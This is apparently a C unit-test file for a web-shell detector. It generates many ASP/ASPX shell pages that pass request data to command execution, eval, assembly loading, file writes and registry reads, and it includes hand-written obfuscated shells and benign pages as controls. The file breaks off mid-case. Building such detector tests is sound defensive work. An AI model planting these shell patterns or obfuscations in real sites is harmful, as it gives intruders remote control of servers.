/* Web shells by behaviour: a generator of our own writes every combination of language x
 * request source x transform x sink as a page (no public shell is copied), and each must be
 * found with the right explanation; pages written the way applications are must not be. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "detectors/scriptflow.h"
#include "parsers/script.h"

typedef enum { L_CS, L_VB, L_VBS, L_JS, L__N } lang;
static const char *const lang_names[] = {"C#", "VB.NET", "VBScript", "JScript"};

typedef enum { S_FORM, S_QUERY, S_ITEM, S_CONTEXT, S_COOKIE, S_HEADER, S_BODY, S_CONTROL,
               S_WEBMETHOD, S_SESSION, S__N } source;
static const char *const source_names[] = {"form", "query", "item", "context", "cookie",
                                           "header", "body", "control", "webmethod", "session"};

typedef enum { T_NONE, T_VAR, T_B64, T_FUNC, T_CONCAT, T_REVERSE, T__N } transform;
static const char *const transform_names[] = {"none", "var", "base64", "func", "concat",
                                              "reverse"};

typedef enum { K_EVAL, K_PROCESS, K_LOAD, K_WRITE, K_SQL, K_SOCKET, K_REG, K_XSLT, K_FILES,
               K__N } sink;
static const char *const sink_names[] = {"eval", "process", "load",   "write", "sql",
                                         "socket", "registry", "xslt", "files"};
static const xs_wsk sink_kind[] = {XS_WSK_EVAL,   XS_WSK_PROCESS,  XS_WSK_LOAD,
                                   XS_WSK_WRITE,  XS_WSK_SQL,      XS_WSK_SOCKET,
                                   XS_WSK_REGISTRY, XS_WSK_XSLT,   XS_WSK_FILES};
static const int sink_min[] = {80, 80, 80, 80, 80, 80, 50, 80, 50};

/* The source expression, and statements it needs first ("" when none). NULL: not in lang. */
static const char *src_expr(lang l, source s, const char **pre)
{
    *pre = "";
    static const char *const cs[S__N] = {
        "Request.Form[\"p1\"]", "Request.QueryString[\"p1\"]", "Request[\"p1\"]",
        "HttpContext.Current.Request.Params[\"p1\"]", "Request.Cookies[\"p1\"].Value",
        "Request.Headers[\"X-P1\"]", "body", "tbIn.Text", "input", "(string)Session[\"k\"]"};
    static const char *const vb[S__N] = {
        "Request.Form(\"p1\")", "Request.QueryString(\"p1\")", "Request(\"p1\")",
        "HttpContext.Current.Request.Params(\"p1\")", "Request.Cookies(\"p1\").Value",
        "Request.Headers(\"X-P1\")", "body", "tbIn.Text", "input", "CStr(Session(\"k\"))"};
    static const char *const vbs[S__N] = {
        "Request.Form(\"p1\")", "Request.QueryString(\"p1\")", "Request(\"p1\")", NULL,
        "Request.Cookies(\"p1\")", "Request.ServerVariables(\"HTTP_X_P1\")", "body", NULL, NULL,
        "Session(\"k\")"};
    static const char *const js[S__N] = {
        "Request.Form[\"p1\"]", "Request.QueryString[\"p1\"]", "Request.Item[\"p1\"]",
        "HttpContext.Current.Request.Params[\"p1\"]", "Request.Cookies[\"p1\"].Value",
        "Request.Headers[\"X-P1\"]", "body", NULL, NULL, "String(Session[\"k\"])"};
    const char *const *t = l == L_CS ? cs : l == L_VB ? vb : l == L_VBS ? vbs : js;
    if (s == S_BODY)
        *pre = l == L_CS ? "byte[] raw = Request.BinaryRead(Request.ContentLength);\n"
                           "string body = System.Text.Encoding.UTF8.GetString(raw);\n"
               : l == L_VB ? "Dim raw As Byte() = Request.BinaryRead(Request.ContentLength)\n"
                             "Dim body As String = System.Text.Encoding.UTF8.GetString(raw)\n"
               : l == L_VBS ? "body = Request.BinaryRead(Request.TotalBytes)\n"
                            : "var raw = Request.BinaryRead(Request.ContentLength);\n"
                              "var body = System.Text.Encoding.UTF8.GetString(raw);\n";
    if (s == S_SESSION)
        *pre = l == L_CS    ? "Session[\"k\"] = Request.Form[\"p1\"];\n"
               : l == L_JS  ? "Session[\"k\"] = Request.Form[\"p1\"];\n"
                            : "Session(\"k\") = Request.Form(\"p1\")\n";
    return t[s];
}

/* The sink with X for the value (and the statements it needs); NULL: not in lang. */
static const char *sink_code(lang l, sink k)
{
    static const char *const cs[K__N] = {
        "var r = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource(new "
        "System.CodeDom.Compiler.CompilerParameters(), X);\n",
        "System.Diagnostics.Process.Start(\"cmd.exe\", X);\n",
        "System.Reflection.Assembly.Load(Convert.FromBase64String(X)).CreateInstance(\"P\");\n",
        "System.IO.File.WriteAllBytes(X, Request.BinaryRead(Request.TotalBytes));\n",
        "new System.Data.SqlClient.SqlCommand(X, conn).ExecuteNonQuery();\n",
        "var c = new System.Net.Sockets.TcpClient(X, 3389);\n",
        "var key = Microsoft.Win32.Registry.LocalMachine.OpenSubKey(X);\n",
        "var xs = new System.Xml.Xsl.XslCompiledTransform();\n"
        "xs.Load(System.Xml.XmlReader.Create(new System.IO.StringReader(X)), new "
        "System.Xml.Xsl.XsltSettings(true, true), null);\n",
        "foreach (var f in System.IO.Directory.GetFiles(X)) Response.Write(f);\n"
        "Response.Write(System.IO.File.ReadAllText(X));\nSystem.IO.File.Delete(X);\n"};
    static const char *const vb[K__N] = {
        "Dim r = New Microsoft.VisualBasic.VBCodeProvider().CompileAssemblyFromSource(New "
        "System.CodeDom.Compiler.CompilerParameters(), X)\n",
        "System.Diagnostics.Process.Start(\"cmd.exe\", X)\n",
        "System.Reflection.Assembly.Load(Convert.FromBase64String(X)).CreateInstance(\"P\")\n",
        "System.IO.File.WriteAllBytes(X, Request.BinaryRead(Request.TotalBytes))\n",
        "Dim cmd As New System.Data.SqlClient.SqlCommand(X, conn)\ncmd.ExecuteNonQuery()\n",
        "Dim c As New System.Net.Sockets.TcpClient(X, 3389)\n",
        "Dim key = Microsoft.Win32.Registry.LocalMachine.OpenSubKey(X)\n",
        "Dim xs As New System.Xml.Xsl.XslCompiledTransform()\n"
        "xs.Load(System.Xml.XmlReader.Create(New System.IO.StringReader(X)), New "
        "System.Xml.Xsl.XsltSettings(True, True), Nothing)\n",
        "For Each f As String In System.IO.Directory.GetFiles(X)\nResponse.Write(f)\nNext\n"
        "Response.Write(System.IO.File.ReadAllText(X))\nSystem.IO.File.Delete(X)\n"};
    static const char *const vbs[K__N] = {
        "ExecuteGlobal X\n",
        "Set sh = Server.CreateObject(\"WScript.Shell\")\nsh.Run X, 0, True\n",
        NULL,
        "Set fso = Server.CreateObject(\"Scripting.FileSystemObject\")\n"
        "Set tf = fso.CreateTextFile(X, True)\ntf.Write Request.Form(\"b\")\ntf.Close\n",
        "Set cn = Server.CreateObject(\"ADODB.Connection\")\n"
        "cn.Open \"Provider=SQLOLEDB;Data Source=.;\"\ncn.Execute X\n",
        NULL,
        "Set sh = Server.CreateObject(\"WScript.Shell\")\nResponse.Write sh.RegRead(X)\n",
        NULL,
        "Set fso = Server.CreateObject(\"Scripting.FileSystemObject\")\n"
        "Set fo = fso.GetFolder(X)\nResponse.Write fso.OpenTextFile(X, 1).ReadAll\n"
        "fso.DeleteFile X\n"};
    static const char *const js[K__N] = {
        "eval(X);\n",
        "System.Diagnostics.Process.Start(\"cmd.exe\", X);\n",
        "System.Reflection.Assembly.Load(System.Convert.FromBase64String(X));\n",
        "System.IO.File.WriteAllText(X, Request.Item[\"b\"]);\n",
        "new System.Data.SqlClient.SqlCommand(X, conn).ExecuteNonQuery();\n",
        "var c = new System.Net.Sockets.TcpClient(X, 3389);\n",
        "var key = Microsoft.Win32.Registry.LocalMachine.OpenSubKey(X);\n",
        NULL,
        "var fs = System.IO.Directory.GetFiles(X);\nResponse.Write(System.IO.File.ReadAllText(X));\n"
        "System.IO.File.Delete(X);\n"};
    const char *const *t = l == L_CS ? cs : l == L_VB ? vb : l == L_VBS ? vbs : js;
    return t[k];
}

typedef struct buf {
    char p[16384];
    size_t n;
} buf;

static void put(buf *b, const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    int k = vsnprintf(b->p + b->n, sizeof b->p - b->n, fmt, ap);
    va_end(ap);
    assert_true(k >= 0 && (size_t)k < sizeof b->p - b->n);
    b->n += (size_t)k;
}

/* Copies sink code with every X replaced by v. */
static void put_sink(buf *b, const char *code, const char *v)
{
    for (const char *p = code; *p; p++) {
        bool alone = (p == code || !((p[-1] >= 'a' && p[-1] <= 'z') ||
                                     (p[-1] >= 'A' && p[-1] <= 'Z'))) &&
                     !((p[1] >= 'a' && p[1] <= 'z') || (p[1] >= 'A' && p[1] <= 'Z'));
        if (*p == 'X' && alone) {
            put(b, "%s", v);
        } else {
            put(b, "%c", *p);
        }
    }
}

/* Writes the page; returns its extension, or NULL when the combination does not exist. */
static const char *generate(lang l, source s, transform t, sink k, buf *b)
{
    const char *pre, *src = src_expr(l, s, &pre), *code = sink_code(l, k);
    if (!src || !code)
        return NULL;
    if (t == T_B64 && l == L_VBS)
        return NULL; /* VBScript has no base64 built in */
    if (t == T_REVERSE && l != L_VBS && l != L_VB)
        return NULL;
    if (t == T_CONCAT && k == K_SQL)
        return NULL; /* text joined to request data is a query the page builds: injection at
                        worst, not request SQL (test_benign_pages) */
    b->n = 0;
    bool asmx = s == S_WEBMETHOD;
    const char *ext = l == L_VBS ? ".asp" : asmx ? ".asmx" : ".aspx";
    /* the transform: the value handed to the sink */
    char stmt[512] = "", value[256];
    switch (t) {
    case T_NONE:
    case T_FUNC:
        snprintf(value, sizeof value, "%s", src);
        break;
    case T_VAR:
    case T_CONCAT:
    case T_B64:
    case T_REVERSE: {
        char rhs[384];
        bool vbl = l == L_VB || l == L_VBS;
        if (t == T_VAR)
            snprintf(rhs, sizeof rhs, "%s", src);
        else if (t == T_CONCAT)
            snprintf(rhs, sizeof rhs, vbl ? "\"/c \" & %s" : "\"/c \" + %s", src);
        else if (t == T_REVERSE)
            snprintf(rhs, sizeof rhs, "StrReverse(%s)", src);
        else
            snprintf(rhs, sizeof rhs, "System.Text.Encoding.UTF8.GetString("
                                      "Convert.FromBase64String(%s))", src);
        if (l == L_CS)
            snprintf(stmt, sizeof stmt, "string v1 = %s;\n", rhs);
        else if (l == L_VB)
            snprintf(stmt, sizeof stmt, "Dim v1 As String = %s\n", rhs);
        else if (l == L_VBS)
            snprintf(stmt, sizeof stmt, "v1 = %s\n", rhs);
        else
            snprintf(stmt, sizeof stmt, "var v1 = %s;\n", rhs);
        snprintf(value, sizeof value, "v1");
        break;
    }
    default:
        return NULL;
    }
    /* the helper function, for T_FUNC */
    buf helper;
    helper.n = 0;
    helper.p[0] = 0;
    if (t == T_FUNC) {
        if (l == L_CS)
            put(&helper, "void Helper(string a) {\n");
        else if (l == L_VB || l == L_VBS)
            put(&helper, "Sub Helper(%sa%s)\n", l == L_VB ? "ByVal " : "",
                l == L_VB ? " As String" : "");
        else
            put(&helper, "function Helper(a) {\n");
        if (l == L_CS || l == L_JS)
            put(&helper, "System.Data.SqlClient.SqlConnection conn = null;\n");
        put_sink(&helper, code, "a");
        put(&helper, l == L_CS || l == L_JS ? "}\n" : "End Sub\n");
    }
    buf body;
    body.n = 0;
    body.p[0] = 0;
    if (l == L_CS && k == K_SQL && t != T_FUNC)
        put(&body, "System.Data.SqlClient.SqlConnection conn = null;\n");
    if (l == L_JS && k == K_SQL && t != T_FUNC)
        put(&body, "var conn = null;\n");
    if (l == L_VB && k == K_SQL && t != T_FUNC)
        put(&body, "Dim conn As System.Data.SqlClient.SqlConnection = Nothing\n");
    put(&body, "%s%s", pre, stmt);
    if (t == T_FUNC)
        put(&body, l == L_VBS ? "Helper %s\n" : l == L_VB ? "Helper(%s)\n" : "Helper(%s);\n",
            value);
    else
        put_sink(&body, code, value);
    if (asmx) {
        if (l == L_CS)
            put(b, "<%%@ WebService Language=\"C#\" Class=\"Svc\" %%>\nusing System;\nusing "
                   "System.Web.Services;\npublic class Svc : WebService {\n%s[WebMethod]\npublic "
                   "string Run(string input) {\n%sreturn \"\";\n}\n}\n",
                helper.p, body.p);
        else
            put(b, "<%%@ WebService Language=\"VB\" Class=\"Svc\" %%>\nImports System\nImports "
                   "System.Web.Services\nPublic Class Svc\nInherits WebService\n%s<WebMethod()> "
                   "Public Function Run(ByVal input As String) As String\n%sReturn \"\"\nEnd "
                   "Function\nEnd Class\n",
                helper.p, body.p);
        return ext;
    }
    const char *form = s == S_CONTROL ? "<form runat=\"server\"><asp:TextBox ID=\"tbIn\" "
                                        "runat=\"server\" /></form>\n"
                                      : "";
    switch (l) {
    case L_CS:
        put(b, "<%%@ Page Language=\"C#\" %%>\n%s<script runat=\"server\">\n%svoid "
               "Page_Load(object sender, EventArgs e) {\n%s}\n</script>\n",
            form, helper.p, body.p);
        break;
    case L_VB:
        put(b, "<%%@ Page Language=\"VB\" %%>\n%s<script runat=\"server\">\n%sSub "
               "Page_Load(sender As Object, e As EventArgs)\n%sEnd Sub\n</script>\n",
            form, helper.p, body.p);
        break;
    case L_VBS:
        put(b, "<%%@ Language=VBScript %%>\n<%%\n%s%s%%>\n<html><body>ok</body></html>\n",
            helper.p, body.p);
        break;
    default:
        put(b, "<%%@ Page Language=\"JScript\" %%>\n<script runat=\"server\">\n%s</script>\n<%%\n%s%%>\n",
            helper.p, body.p);
        break;
    }
    return ext;
}

static bool analyse(const char *page, size_t n, const char *ext, xs_wsreport *r)
{
    xs_script sc;
    bool ok = xs_script_read(page, n, ext, &sc);
    ok = ok && xs_scriptflow(&sc, 0, r);
    xs_script_free(&sc);
    return ok;
}

static void test_generated_shells(void **st)
{
    (void)st;
    unsigned cases = 0, failed = 0;
    buf b;
    for (int l = 0; l < L__N; l++)
        for (int s = 0; s < S__N; s++)
            for (int t = 0; t < T__N; t++)
                for (int k = 0; k < K__N; k++) {
                    const char *ext = generate((lang)l, (source)s, (transform)t, (sink)k, &b);
                    if (!ext)
                        continue;
                    cases++;
                    xs_wsreport r;
                    assert_true(analyse(b.p, b.n, ext, &r));
                    const xs_wsflow *f = &r.flow[sink_kind[k]];
                    bool src_ok = strstr(f->source, s == S_CONTROL     ? "server control tbIn"
                                                    : s == S_WEBMETHOD ? "web method Run"
                                                    : s == S_SESSION   ? "Request.Form"
                                                    : s == S_BODY      ? "Request.BinaryRead"
                                                                       : "Request") != NULL;
                    bool via_ok = t != T_FUNC || strstr(f->via, "function Helper") != NULL;
                    if (t == T_B64 && !strstr(f->via, "FromBase64String"))
                        via_ok = false;
                    if (f->score < sink_min[k] || !src_ok || !via_ok || f->sink_line == 0 ||
                        r.score < XS_WS_SCORE_SUSPECT) {
                        if (failed++ < 12)
                            fprintf(stderr,
                                    "missed: %s x %s x %s x %s: score %d (file %d) source \"%s\" "
                                    "via \"%s\" sink \"%s\"\n%s\n",
                                    lang_names[l], source_names[s], transform_names[t],
                                    sink_names[k], f->score, r.score, f->source, f->via, f->sink,
                                    b.p);
                    }
                }
    fprintf(stderr, "generated shells: %u cases, %u missed\n", cases, failed);
    assert_true(cases > 700);
    assert_int_equal(failed, 0);
}

/* The explanation of one generated shell, exactly. */
static void test_explanation(void **st)
{
    (void)st;
    buf b;
    const char *ext = generate(L_CS, S_FORM, T_B64, K_PROCESS, &b);
    assert_non_null(ext);
    xs_wsreport r;
    assert_true(analyse(b.p, b.n, ext, &r));
    assert_int_equal(r.score, 100);
    assert_int_equal(r.best, XS_WSK_PROCESS);
    assert_string_equal(r.flow[XS_WSK_PROCESS].source, "Request.Form[\"p1\"] (line 4)");
    assert_string_equal(r.flow[XS_WSK_PROCESS].via,
                        "FromBase64String (line 4), GetString (line 4), variable v1 (line 5)");
    assert_string_equal(r.flow[XS_WSK_PROCESS].sink, "Process.Start (line 5)");
    assert_string_equal(r.kinds, "command execution");
    assert_string_equal(r.signals, "names a command interpreter");
}

/* Obfuscations of the sink itself: names built from character codes, reversed, encoded. */
static void test_obfuscated(void **st)
{
    (void)st;
    static const struct {
        const char *ext, *page;
        xs_wsk kind;
        int min;
        const char *signal;
    } cases[] = {
        {".asp",
         "<%\nSet o = CreateObject(Chr(87) & Chr(83) & \"cript.\" & ChrW(&H53) & \"hell\")\n"
         "o.Run Request(\"c\"), 0\n%>",
         XS_WSK_PROCESS, 80, "\"WScript.Shell\" built from pieces (line 2)"},
        {".asp", "<%\nExecute(StrReverse(\")\"\"x\"\"(tseuqer lave\"))\n%>", XS_WSK_EVAL, 80, NULL},
        {".asp", "<%\nExecuteGlobal(Replace(\"evQal reQquest(\"\"x\"\")\", \"Q\", \"\"))\n%>",
         XS_WSK_EVAL, 80, NULL},
        {".aspx",
         "<%@ Page Language=\"Jscript\"%><%var s=unescape(\"%65%76%61%6C\");"
         "eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("
         "\"ZXZhbChSZXF1ZXN0Lkl0ZW1bImsiXSk7\")));%>",
         XS_WSK_EVAL, 80, NULL},
        {".aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs "
         "e){ var p = Request[\"\\u0063md\"]; System.Diagnostics.\\u0050rocess.Start(\"cmd\", p); }"
         "</script>",
         XS_WSK_PROCESS, 80, NULL},
        {".aspx",
         "<%@ Page Language=\"Jscript\"%><script runat=\"server\">function Page_Load(){ var a = "
         "Request.Item[\"z\"]; eval(a, \"unsafe\"); }</script>",
         XS_WSK_EVAL, 80, NULL},
        {".aspx",
         "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"q\"],String.fromCharCode(117,110,"
         "115,97,102,101));%>",
         XS_WSK_EVAL, 80, "\"unsafe\" built from pieces (line 1)"},
        {".asp",
         "<object runat=\"server\" id=\"ws\" scope=\"page\" "
         "classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object>\n<%\n"
         "ws.Exec(\"cmd /c \" & Request.Form(\"c\"))\n%>",
         XS_WSK_PROCESS, 80, NULL},
        {".config",
         "<?xml version=\"1.0\"?>\n<configuration><system.webServer><handlers accessPolicy=\"Read, "
         "Script, Write\"><add name=\"wc\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" "
         "scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" /></handlers>"
         "</system.webServer></configuration>\n<!--\n<% Execute(Request(\"x\")) %>\n-->\n",
         XS_WSK_EVAL, 80, NULL},
        {".aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs "
         "e){ string k = \"\\x10\\x0f\\x1e\\x16\"; var t = Type.GetType(\"System.Reflection.Assembly\");"
         " var m = typeof(System.Reflection.Assembly).GetMethod(\"Load\", new Type[]{typeof(byte[])});"
         " object o = m.Invoke(null, new object[]{ Request.BinaryRead(Request.ContentLength) }); }"
         "</script>",
         XS_WSK_LOAD, 80, NULL},
        {".asp", "<%\nsub go(x)\n  eval x\nend sub\ngo request.form(\"k\")\n%>", XS_WSK_EVAL, 80,
         NULL},
        {".asp",
         "<%\nk = \"\" : s = \"`sdi%w`tp`vq-fmw-475,,\"\nFor i = 1 To Len(s)\n"
         "k = k & Chr(Asc(Mid(s, i, 1)) Xor 5)\nNext\nExecute k\n%>",
         XS_WSK_EVAL, 80, NULL},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        xs_wsreport r;
        assert_true(analyse(cases[i].page, strlen(cases[i].page), cases[i].ext, &r));
        if (r.flow[cases[i].kind].score < cases[i].min)
            fprintf(stderr, "case %zu: score %d, file %d, signals %s\n", i,
                    r.flow[cases[i].kind].score, r.score, r.signals);
        assert_true(r.flow[cases[i].kind].score >= cases[i].min);
        assert_true(r.score >= XS_WS_SCORE_EXPLOIT);
        if (cases[i].signal)
            assert_non_null(strstr(r.signals, cases[i].signal));
    }
}

/* Pages written the way applications are: nothing reaches a sink the client controls. */
static void test_benign_pages(void **st)
{
    (void)st;
    static const struct {
        const char *ext, *page;
    } cases[] = {
        /* a search form querying with parameters */
        {".aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs "
         "e){ using (var conn = new System.Data.SqlClient.SqlConnection(System.Configuration."
         "ConfigurationManager.ConnectionStrings[\"db\"].ConnectionString)) { var cmd = new "
         "System.Data.SqlClient.SqlCommand(\"SELECT id, name FROM items WHERE name LIKE @q\", "
         "conn); cmd.Parameters.AddWithValue(\"@q\", Request.QueryString[\"q\"]); conn.Open(); "
         "grid.DataSource = cmd.ExecuteReader(); grid.DataBind(); } }</script>"},
        /* a query the application builds (SQL injection, not a shell) */
        {".aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs "
         "e){ string sql = \"SELECT * FROM news WHERE id=\" + Request[\"id\"]; var cmd = new "
         "System.Data.SqlClient.SqlCommand(sql, conn); cmd.ExecuteReader(); }</script>"},
        {".asp",
         "<%\nsql = \"SELECT title FROM news WHERE id=\" & Request(\"id\")\nSet rs = "
         "Server.CreateObject(\"ADODB.Recordset\")\nrs.Open sql, conn\nconn.Execute(\"UPDATE "
         "hits SET n=n+1 WHERE id=\" & CLng(Request(\"id\")))\n%>"},
        /* uploads to a fixed folder, with checks */
        {".aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">protected void Up(object s, "
         "EventArgs e){ if (!fu.HasFile) return; string ext = System.IO.Path.GetExtension("
         "fu.FileName).ToLowerInvariant(); if (ext != \".jpg\" && ext != \".png\") return; "
         "fu.SaveAs(Server.MapPath(\"~/uploads/\") + Guid.NewGuid().ToString(\"N\") + ext); }"
         "</script><form runat=\"server\"><asp:FileUpload ID=\"fu\" runat=\"server\" /></form>"},
        {".aspx",
         "<%@ Page Language=\"VB\" %><script runat=\"server\">Sub Up(s As Object, e As EventArgs)\n"
         "Dim f As HttpPostedFile = Request.Files(0)\nDim name As String = "
         "System.IO.Path.GetFileName(f.FileName)\nf.SaveAs(Server.MapPath(\"~/App_Data/in/\") & "
         "name)\nEnd Sub</script>"},
        /* an admin page listing files under a fixed root, and a download by name */
        {".aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs "
         "e){ string root = Server.MapPath(\"~/App_Data/reports\"); foreach (var f in "
         "System.IO.Directory.GetFiles(root)) list.Items.Add(System.IO.Path.GetFileName(f)); "
         "string want = Request.QueryString[\"f\"]; if (!string.IsNullOrEmpty(want)) { string "
         "p = System.IO.Path.Combine(root, System.IO.Path.GetFileName(want)); "
         "Response.TransmitFile(p); } }</script>"},
        /* a handler proxying to a fixed URL */
        {".ashx",
         "<%@ WebHandler Language=\"C#\" Class=\"Proxy\" %>\nusing System.Net; using System.Web;\n"
         "public class Proxy : IHttpHandler { public void ProcessRequest(HttpContext context) { "
         "var q = HttpUtility.UrlEncode(context.Request[\"q\"]); var wc = new WebClient(); "
         "context.Response.Write(wc.DownloadString(\"https://api.example.com/search?q=\" + q)); } "
         "public bool IsReusable { get { return true; } } }"},
        /* data binding */
        {".aspx",
         "<%@ Page Language=\"C#\" Inherits=\"Shop.Product\" CodeFile=\"Product.aspx.cs\" %>\n"
         "<asp:Repeater ID=\"r\" runat=\"server\"><ItemTemplate><%# Eval(\"Name\") %> <%# "
         "DataBinder.Eval(Container.DataItem, \"Price\", \"{0:c}\") %></ItemTemplate>"
         "</asp:Repeater>\n<asp:TextBox ID=\"q\" runat=\"server\" Text='<%# Bind(\"Query\") %>' />"},
        /* a log written to a fixed file */
        {".aspx",
         "<%@ Page Language=\"VB\" %><script runat=\"server\">Sub Page_Load(s As Object, e As "
         "EventArgs)\nSystem.IO.File.AppendAllText(Server.MapPath(\"~/App_Data/log.txt\"), "
         "Request.Form(\"msg\") & vbCrLf)\nEnd Sub</script>"},
        /* classic ASP: a guestbook, a fixed file read */
        {".asp",
         "<%@ Language=VBScript %>\n<%\nname = Server.HTMLEncode(Request.Form(\"name\"))\nSet fso "
         "= Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = "
         "fso.OpenTextFile(Server.MapPath(\"motd.txt\"), 1)\nResponse.Write f.ReadAll & name\n"
         "Server.Execute(\"footer.asp\")\n%>"},
        /* session and a typed id */
        {".aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs "
         "e){ Session[\"user\"] = Request.Form[\"user\"]; int id = int.Parse(Request[\"id\"]); "
         "var cmd = new System.Data.SqlClient.SqlCommand(\"SELECT * FROM t WHERE owner=@u\", "
         "conn); cmd.Parameters.AddWithValue(\"@u\", Session[\"user\"]); "
         "Response.Redirect(\"item.aspx?id=\" + id); }</script>"},
        /* a fixed maintenance command */
        {".aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">protected void Recycle(object s, "
         "EventArgs e){ if (User.IsInRole(\"Admins\")) System.Diagnostics.Process.Start("
         "\"iisreset.exe\", \"/noforce\"); }</script>"},
        /* a web service doing arithmetic and a lookup */
        {".asmx",
         "<%@ WebService Language=\"C#\" Class=\"Calc\" %>\nusing System.Web.Services;\npublic "
         "class Calc : WebService { [WebMethod] public int Add(int a, int b) { return a + b; } "
         "[WebMethod] public string Name(string id) { var cmd = new "
         "System.Data.SqlClient.SqlCommand(\"SELECT name FROM t WHERE id=@id\", conn); "
         "cmd.Parameters.AddWithValue(\"@id\", id); return (string)cmd.ExecuteScalar(); } }"},
        /* Razor: a form with a model */
        {".cshtml",
         "@{ var q = Request.QueryString[\"q\"]; var rows = db.Query(\"SELECT * FROM p WHERE n = "
         "@0\", q); }\n<ul>@foreach (var r in rows) { <li>@r.Name</li> }</ul>"},
        /* a CRUD page building its UPDATE over several statements */
        {".asp",
         "<%\nn = Request.Form(\"name\")\nsql = \"UPDATE places SET \"\nsql = sql & \"name='\" & n "
         "& \"'\"\nsql = sql & \" WHERE id=\" & CLng(Request.Form(\"id\"))\nconn.Execute sql\n%>"},
        /* a handler echoing a request value to its callback, then saving under a fixed folder */
        {".ashx",
         "<%@ WebHandler Language=\"C#\" Class=\"U\" %>\nusing System.Web;\npublic class U : "
         "IHttpHandler { public void ProcessRequest(HttpContext context) { string fn = "
         "context.Request[\"CKEditorFuncNum\"]; context.Response.Write(\"<script>cb(\" + fn + "
         "\")</script>\"); var up = context.Request.Files[0]; string ext = "
         "System.IO.Path.GetExtension(up.FileName); up.SaveAs(context.Server.MapPath("
         "\"~/Upload/images/\") + System.Guid.NewGuid() + ext); } public bool IsReusable { get { "
         "return false; } } }"},
        /* a download handler opening the file for reading */
        {".ashx",
         "<%@ WebHandler Language=\"C#\" Class=\"D\" %>\nusing System.Web;\npublic class D : "
         "IHttpHandler { public void ProcessRequest(HttpContext c) { string p = "
         "c.Server.MapPath(\"~/files/\" + System.IO.Path.GetFileName(c.Request[\"f\"])); using "
         "(var fs = new System.IO.FileStream(p, System.IO.FileMode.Open, "
         "System.IO.FileAccess.Read)) fs.CopyTo(c.Response.OutputStream); } public bool "
         "IsReusable { get { return true; } } }"},
        /* a normal web.config */
        {".config",
         "<?xml version=\"1.0\"?>\n<configuration><system.web><compilation debug=\"false\" "
         "targetFramework=\"4.8\" /><customErrors mode=\"RemoteOnly\" /></system.web>"
         "</configuration>"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        xs_wsreport r;
        assert_true(analyse(cases[i].page, strlen(cases[i].page), cases[i].ext, &r));
        if (r.score >= XS_WS_SCORE_SUSPECT)
            fprintf(stderr, "benign %zu flagged: score %d %s: %s -> %s\n", i, r.score, r.kinds,
                    r.flow[r.best].source, r.flow[r.best].sink);
        assert_true(r.score < XS_WS_SCORE_SUSPECT);
    }
}

/* UTF-7 of s in one "+...-" run per character (the form intruders use to hide code). */
static void utf7(const char *s, char *out, size_t cap)
{
    static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    size_t o = 0;
    for (; *s && o + 8 < cap; s++) {
        unsigned v = (unsigned char)*s; /* UTF-16BE 00 xx: 16 bits, padded to 18 */
        unsigned bits = v << 2;
        out[o++] = '+';
        out[o++] = b64[(bits >> 12) & 63];
        out[o++] = b64[(bits >> 6) & 63];
        out[o++] = b64[bits & 63];
        out[o++] = '-';
    }
    out[o] = 0;
}

/* Techniques seen in public shells, written our own way. */
static void test_techniques(void **st)
{
    (void)st;
    static const struct {
        const char *ext, *page;
        xs_wsk kind;
        int min;
    } cases[] = {
        /* a handler whose directive has no WebHandler word */
        {".ashx",
         "<%@ Language=\"C#\" Class=\"H\" %>\nusing System.Web;\npublic class H : IHttpHandler {"
         " public void ProcessRequest(HttpContext c) { System.Reflection.Assembly.Load("
         "c.Request.BinaryRead(c.Request.ContentLength)).CreateInstance(\"X\"); }"
         " public bool IsReusable { get { return false; } } }",
         XS_WSK_LOAD, 80},
        /* the page's own function called through this. */
        {".aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">string Run(string c) { var p = "
         "System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c); return \"\"; }\n"
         "void Page_Load(object s, EventArgs e) { Response.Write(this.Run(Request[\"c\"])); }"
         "</script>",
         XS_WSK_PROCESS, 80},
        /* a FileInfo opened for writing at a path from a control */
        {".aspx",
         "<%@ Page Language=\"C#\" %><asp:TextBox ID=\"where\" runat=\"server\" />"
         "<asp:TextBox ID=\"what\" runat=\"server\" /><script runat=\"server\">void Save(object "
         "s, EventArgs e) { var fi = new System.IO.FileInfo(where.Text); var w = fi.CreateText(); "
         "w.Write(what.Text); w.Close(); }</script>",
         XS_WSK_WRITE, 80},
        /* an upload copied byte by byte beside the page under the client's name */
        {".aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs "
         "e) { var f = Request.Files[0]; byte[] buf = new byte[f.ContentLength]; "
         "f.InputStream.Read(buf, 0, buf.Length); string dir = System.IO.Path.GetDirectoryName("
         "Request.PhysicalPath); using (var fs = new System.IO.FileStream(System.IO.Path.Combine("
         "dir, System.IO.Path.GetFileName(f.FileName)), System.IO.FileMode.Create)) "
         "fs.Write(buf, 0, buf.Length); }</script>",
         XS_WSK_UPLOAD, 80},
        /* code decoded by the page's own function, then run */
        {".asp",
